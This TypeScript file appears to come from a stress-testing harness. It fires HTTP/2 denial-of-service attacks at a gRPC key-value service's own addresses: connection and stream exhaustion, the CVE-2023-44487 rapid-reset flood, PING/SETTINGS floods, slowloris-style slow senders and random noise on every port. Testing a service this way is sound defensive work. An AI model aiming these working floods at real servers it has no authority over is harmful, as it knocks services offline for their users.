import http2, { type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
import { once } from "node:events";
import type { Socket } from "node:net";
import { pause } from "../wait.ts";
import { closed, connectTo } from "./ports.ts";
import { type Attack, httpAddresses, oneOf, rpcAddresses } from "./scene.ts";

const CONNECTION_COUNT = 500;
const STREAM_COUNT = 2_000;
const FRAME_COUNT = 20_000;
/** How long what is slow goes on. */
const SLOW_MS = 2_000;
const BYTE_INTERVAL_MS = 100;

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const SETTINGS = 4;
const PING = 6;

/** An HTTP/2 frame on stream 0. */
function controlFrame(type: number, payload: Uint8Array): Buffer {
  const framed = Buffer.alloc(9 + payload.length);
  framed.writeUIntBE(payload.length, 0, 3);
  framed[3] = type;
  framed.set(payload, 9);
  return framed;
}

const batchCall = {
  ":method": "POST",
  ":path": "/rdb.v1.KvService/Batch",
  "content-type": "application/grpc",
  te: "trailers",
};

async function connected(address: string): Promise<ClientHttp2Session> {
  const session = http2.connect(`http://${address}`);
  await once(session, "connect");
  // Being cut off is an answer.
  session.on("error", () => {});
  return session;
}

/** Streams that are never answered, and never look. */
function open(session: ClientHttp2Session, count: number): ClientHttp2Stream[] {
  return Array.from({ length: session.destroyed ? 0 : count }, () => {
    const stream = session.request(batchCall);
    stream.on("error", () => {});
    stream.pause();
    return stream;
  });
}

/** Connections on which nothing is ever said, or not even who speaks. */
export const idleConnections: Attack = {
  name: "idle connections",
  async run(scene) {
    const address = oneOf(scene.random, [...rpcAddresses(scene), ...httpAddresses(scene)]);
    const sockets: Socket[] = [];
    for (let left = CONNECTION_COUNT; left > 0; left--) {
      const socket = await connectTo(address).catch(() => undefined);
      if (socket === undefined) {
        break;
      }
      if (left % 2 === 0) {
        socket.write(PREFACE);
      }
      sockets.push(socket);
    }
    await pause(SLOW_MS);
    sockets.forEach((socket) => socket.destroy());
  },
};

/** Thousands of calls that were begun, on one connection. */
export const openStreams: Attack = {
  name: "open streams",
  async run(scene) {
    const session = await connected(oneOf(scene.random, rpcAddresses(scene)));
    open(session, STREAM_COUNT);
    await pause(SLOW_MS);
    session.destroy();
  },
};

/** CVE-2023-44487: calls that are begun and reset at once. */
export const rapidReset: Attack = {
  name: "rapid reset",
  async run(scene) {
    const session = await connected(oneOf(scene.random, rpcAddresses(scene)));
    for (let round = 0; round < 10 && !session.destroyed; round++) {
      open(session, STREAM_COUNT / 10).forEach((stream) => stream.close(http2.constants.NGHTTP2_CANCEL));
      await pause(1);
    }
    session.destroy();
  },
};

/** PINGs or SETTINGS, each of which wants an answer that nobody reads. */
export const controlFlood: Attack = {
  name: "control flood",
  async run(scene) {
    const socket = await connectTo(oneOf(scene.random, rpcAddresses(scene)));
    const [type, payload] = oneOf(scene.random, [
      [PING, new Uint8Array(8)],
      [SETTINGS, new Uint8Array(0)],
    ] as const);
    socket.pause();
    socket.write(Buffer.concat([PREFACE, controlFrame(SETTINGS, new Uint8Array(0))]));
    const one = controlFrame(type, payload);
    socket.write(Buffer.concat(Array.from({ length: FRAME_COUNT }, () => one)));
    await pause(SLOW_MS);
    socket.destroy();
  },
};

/** A byte now and then; and calls whose body never comes. */
export const slowSenders: Attack = {
  name: "slow senders",
  async run(scene) {
    const address = oneOf(scene.random, rpcAddresses(scene));
    const socket = await connectTo(address);
    const session = await connected(address);
    open(session, 100);
    for (const byte of PREFACE.subarray(0, SLOW_MS / BYTE_INTERVAL_MS)) {
      socket.write(Buffer.of(byte));
      await pause(BYTE_INTERVAL_MS);
    }
    session.destroy();
    socket.destroy();
  },
};

/** Bytes that HTTP/2 does not begin with, or does not go on with. */
export const noiseOnPorts: Attack = {
  name: "noise on every port",
  async run(scene) {
    const { random } = scene;
    for (const address of [...rpcAddresses(scene), ...httpAddresses(scene)]) {
      for (const begin of [
        Buffer.alloc(0),
        PREFACE,
        Buffer.concat([PREFACE, controlFrame(SETTINGS, new Uint8Array(0))]),
      ]) {
        const socket = await connectTo(address);
        socket.resume();
        const noise = Uint8Array.from({ length: 1 + random.nextInt(4_000) }, () => random.nextInt(256));
        socket.end(Buffer.concat([begin, noise]));
        await Promise.race([closed(socket), pause(SLOW_MS)]);
        socket.destroy();
      }
    }
  },
};
